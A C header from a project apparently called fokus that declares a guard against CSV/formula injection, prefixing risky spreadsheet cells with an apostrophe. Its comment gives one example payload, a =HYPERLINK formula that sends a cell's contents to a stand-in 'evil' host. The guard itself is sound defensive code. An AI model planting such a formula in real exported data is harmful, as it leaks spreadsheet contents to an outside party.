/* render/cellguard.h — the one rule that keeps a spreadsheet from running a
 * cell of ours as a formula ("CSV injection"). Every csv and xlsx fokus
 * writes — call lists, newsletter list, plan, report and analysis
 * workbooks, customer lists, every --format csv — puts its text cells
 * through it:
 *
 *   a cell that begins with = + - @ TAB or CR gets a leading ' (apostrophe),
 *   unless the whole cell is a plain number (an optional sign, digits, an
 *   optional decimal point or comma with digits, an optional %), which a
 *   spreadsheet reads as a number, never as a formula.
 *
 * So a customer named =HYPERLINK("http://evil/?"&A1,"x") is written as
 * '=HYPERLINK(...) and shown as text, while -1234.50 stays a number. */
#ifndef FOKUS_CELLGUARD_H
#define FOKUS_CELLGUARD_H

#include <xlsxwriter.h>

/* 1 when s would need the apostrophe, else 0 (NULL: 0). */
int cellguard_risky(const char *s);

/* s as a spreadsheet must see it: s itself when safe (*owned = NULL), else
 * a fresh "'" + s, also left in *owned for the caller to free. */
const char *cellguard_text(const char *s, char **owned);

/* worksheet_write_string with the cell put through cellguard_text. */
lxw_error cellguard_xlsx_string(lxw_worksheet *ws, lxw_row_t row, lxw_col_t col, const char *s,
                                lxw_format *fmt);

#endif
